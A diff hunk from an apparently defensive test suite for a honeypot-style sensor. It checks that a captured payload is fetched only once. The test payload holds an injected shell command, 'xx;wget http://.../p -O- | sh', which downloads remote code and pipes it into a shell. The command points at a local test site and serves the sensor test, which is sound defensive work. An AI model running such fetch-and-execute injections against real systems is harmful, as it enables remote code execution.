@@ -124,7 +124,7 @@ async def test_a_script_s_own_downloads_follow(tmp_path: Path) -> None:
 
 async def test_a_kept_payload_is_looked_into_once(tmp_path: Path) -> None:
     async with site(p=b"\x7fELF sample") as it, running(tmp_path, "catchall", fetch=LAB) as sensor:
-        payload = b"\x01\x02\x03 xx;wget http://%s/p -O- | sh; \0\0" % it.url.removeprefix("http://").encode()
+        payload = b"\x7fELF\x01\x02\x03 xx;wget http://%s/p -O- | sh; \0\0" % it.url.removeprefix("http://").encode()
         for _ in range(3):
             await sensor.say(payload)
         await sensor.until("download.finished")
